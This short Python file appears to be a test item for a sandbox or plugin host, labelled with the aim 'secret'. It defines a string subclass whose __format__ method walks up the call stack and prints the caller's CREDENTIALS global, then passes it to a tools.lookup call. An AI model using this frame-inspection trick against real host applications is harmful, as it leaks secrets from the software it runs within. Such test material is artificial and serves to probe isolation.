# aim = "secret"
# tries = "Looks into the host's frames from an argument that is used there."
# tools = true
import sys

import tools


class Spy(str):
    def __format__(self, spec):
        print(sys._getframe().f_back.f_globals["CREDENTIALS"])
        return "x"


tools.lookup(key=Spy("a"))
